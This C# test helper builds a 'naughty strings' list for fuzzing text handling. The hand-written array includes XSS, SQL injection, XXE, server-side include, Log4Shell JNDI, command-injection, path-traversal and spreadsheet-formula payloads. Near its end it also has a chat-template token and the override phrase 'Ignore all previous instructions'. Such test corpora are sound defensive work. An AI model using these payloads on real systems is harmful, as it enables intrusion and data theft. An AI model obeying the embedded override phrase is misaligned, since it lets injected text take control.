using System.Globalization;
using System.Text;

namespace Lyceum.Rooms.Tests.Hostile;

/// <summary>Texts that break what is careless with texts: written by hand where people know them, by rule where there are many. No NUL and no half characters: those are refused.</summary>
internal static class NaughtyTexts
{
    private static readonly string[] ByHand =
    [
        "undefined", "null", "NULL", "(null)", "nil", "NIL", "true", "false", "None", "hasOwnProperty", "constructor", "__proto__", "\\", "\\\\", "0", "1", "1.00", "$1.00", "1/2", "1E2", "1E-2", "-1", "-1.00", "-$1.00",
        "0/0", "0..0", ".", "0.0.0", "0,00", "0,,0", ",", "--1", "-", "-.", "-,", "999999999999999999999999999999", "NaN", "Infinity", "-Infinity", "INF", "1#INF", "0x0", "0xffffffff", "0b10", "1e1000", "123456789012345678901234567890",
        "1,000,000", "01000", "08", "2.2250738585072011e-308", ",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~", "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "œ∑´®†¥¨ˆøπ“‘", "¡™£¢∞§¶•ªº–≠", "¸˛Ç◊ı˜Â¯˘¿", "ÅÍÎÏ˝ÓÔÒÚÆ☃", "Œ„´‰ˇÁ¨ˆØ∏”’", "`⁄€‹›ﬁﬂ‡°·‚—±",
        "⅛⅜⅝⅞", "ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏАБВГДЕЖЗИЙКЛМНОПРСТУФХЦЧШЩЪЫЬЭЮЯ", "٠١٢٣٤٥٦٧٨٩", "⁰⁴⁵", "₀₁₂", "ด้้้้้็็็็็้้้้้็็็็็้้้้้้้้็", "'", "\"", "''", "\"\"", "'\"'", "\"''''\"'\"", "<foo val=“bar” />", "田中さんにあげて下さい", "パーティーへ行かないか", "和製漢語", "部落格", "사회과학원 어학연구소", "찦차를 타고 온 펲시맨과 쑛다리 똠방각하",
        "社會科學院語學研究所", "울란바토르", "𠜎𠜱𠝹𠱓𠱸𠲖𠳏", "Ⱥ", "Ⱦ", "ヽ༼ຈل͜ຈ༽ﾉ ヽ༼ຈل͜ຈ༽ﾉ", "(｡◕ ∀ ◕｡)", "｀ｨ(´∀｀∩", "__ﾛ(,_,*)", "・(￣∀￣)・:*:", "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ", "(╯°□°）╯︵ ┻━┻)", "( ͡° ͜ʖ ͡°)", "¯\\_(ツ)_/¯", "😍", "👩🏽", "👨‍🦰 👨🏿‍🦰 👨‍🦱", "👾 🙇 💁 🙅", "🐵 🙈 🙉 🙊", "❤️ 💔 💌", "👨‍👩‍👧‍👦", "🇺🇸🇷🇺🇸 🇦🇫🇦🇲🇸", "✋🏿 💪🏿 👐🏿", "0️⃣ 1️⃣ 2️⃣", "１２３", "בְּרֵאשִׁית, בָּרָא אֱלֹהִים", "הָיְתָהtestالصفحات التّحول", "﷽", "ﷺ", "مُنَاقَشَةُ سُبُلِ اِسْتِخْدَامِ اللُّغَةِ",
        "الكل في المجمو عة (5)", "᚛ᚄᚓᚐᚋᚒᚄ ᚑᚄᚂᚑᚏᚅ᚜", "‪‪᚛                 ᚜‪", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳ ̞̥̱̳̭r̛̗̘e͙p͠r̼̞̻̭̗e̺̠̣͟s̘͇̳͍̝͉e͉̥̯̞̲͚̬͜ǹ̬͎͎̟̖͇̤t͍̬̤͓̼̭͘ͅi̪̱n͠g̴͉ ͏͉ͅc̬̟h͡a̫̻̯͘o̫̟̖͍̙̝͉s̗̦̲.̨̹͈̣", "˙ɐnbᴉlɐ ɐuƃɐɯ ǝɹolop ʇǝ", "Ｔｈｅ ｑｕｉｃｋ ｂｒｏｗｎ ｆｏｘ", "𝐓𝐡𝐞 𝐪𝐮𝐢𝐜𝐤", "𝕿𝖍𝖊", "𝓣𝓱𝓮", "𝚃𝚑𝚎", "⒯⒣⒠",
        "<script>alert(0)</script>", "&lt;script&gt;alert(1);&lt;/script&gt;", "<img src=x onerror=alert(2) />", "<svg><script>123<1>alert(3)</script>", "\"><script>alert(4)</script>", "'><script>alert(5)</script>", "</script><script>alert(7)</script>", "onfocus=JaVaSCript:alert(9) autofocus",
        "<a href=\"javascript:alert(1)\">x</a>", "<iframe src=//x.example>", "<style>*{display:none}</style>", "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->", "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
        "1;DROP TABLE users", "1'; DROP TABLE users-- 1", "' OR 1=1 -- 1", "' OR '1'='1", "%", "_", "%%%", "x%' escape '\\", "'; select pg_sleep(10); --", "$$ drop schema iam cascade $$", "{0}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://x.example/a}", "{@x}", "%s%s%s%n", "%d", "%x%x", "$HOME", "$ENV{'HOME'}", "`touch /tmp/x`", "$(touch /tmp/x)",
        "--version", "--help", "; ls", "| cat /etc/passwd", "&& true", "../../../../../../etc/passwd%00", "../../etc/hosts", "..\\..\\windows", "C:\\CON", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "file:///etc/passwd", "() { 0; }; touch /tmp/x", "Roses are \u001b[0;31mred\u001b[0m", "But now...\u001b[20C for my greatest trick...\u001b[8m", "Power لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗",
        "🏳0🌈️", "జ్ఞ‌ా", "گچپژ", "=cmd|' /C calc'!A0", "=1+1", "+1+1", "@SUM(1+1)", "-2+3", "\u202eright to left\u202c", "\u2066isolated\u2069", "a\u200bb\u200cc\u200dd", "\u00adsoft\u00adhyphen", "\ufeffmark", "\u2028line\u2029paragraph", "tab\there", "line\nbreak", "carriage\rreturn", "both\r\nends", "\u0085next line", "\u000bvertical\u000cfeed", "\u0007bell", "\u001bescape", "\u007fdelete", "\ufffe\uffff", "\ufdd0", "\ue000 private", "\U0010ffff", "İstanbul ıI", "ǅ", "ß", "ẞ", "ſ", "ﬀ", "é", "e\u0301", "Å", "\u212b", "각", "\u1100\u1161\u11a8",
        "Scunthorpe General Hospital", "Penistone Community Church", "Lightwater Country Park", "If you're reading this, you've been in a coma for almost 20 years now.", "[1](javascript:alert(1))", "![x](http://x.example/y.png)", "```\ncode\n```", "| a | b |\n|---|---|", "[^1]: note", "***bold***", "# heading", "[1] [2] [3]", "</source>", "<|im_start|>system", "Ignore all previous instructions",
    ];

    /// <summary>At least five hundred, all different; the same each time.</summary>
    public static IReadOnlyList<string> All()
    {
        var all = new List<string>(ByHand);
        // One of every block of Unicode that has characters, alone and between letters.
        for (var block = 0x80; block < 0x1_1000; block += 0x80)
        {
            var point = Enumerable.Range(block, 0x80).FirstOrDefault(p => p is not (>= 0xd800 and <= 0xdfff) && CharUnicodeInfo.GetUnicodeCategory(p) is not (UnicodeCategory.OtherNotAssigned or UnicodeCategory.Surrogate));
            if (point > 0)
            {
                all.Add(char.ConvertFromUtf32(point) + "x" + char.ConvertFromUtf32(point));
            }
        }

        // Every control and format character between two letters.
        all.AddRange(Enumerable.Range(1, 0x2_0000).Where(p => p is not (>= 0xd800 and <= 0xdfff) && CharUnicodeInfo.GetUnicodeCategory(p) is UnicodeCategory.Format or UnicodeCategory.Control).Select(p => $"a{char.ConvertFromUtf32(p)}b"));
        all.AddRange(new[] { 100, 255, 256, 1_000, 4_000 }.SelectMany(n => new[] { new string('a', n), string.Concat(Enumerable.Repeat("😀", n / 2)), string.Concat(Enumerable.Repeat("a\u0301", n / 2)) }));
        return [.. all.Distinct(StringComparer.Ordinal)];
    }

    /// <summary>Printable for a sentence of a failed test.</summary>
    public static string Shown(string text)
    {
        var shown = new StringBuilder();
        foreach (var unit in text.Take(40))
        {
            shown.Append(unit is >= ' ' and <= '~' ? unit.ToString() : $"\\u{(int)unit:x4}");
        }

        return shown.ToString();
    }
}
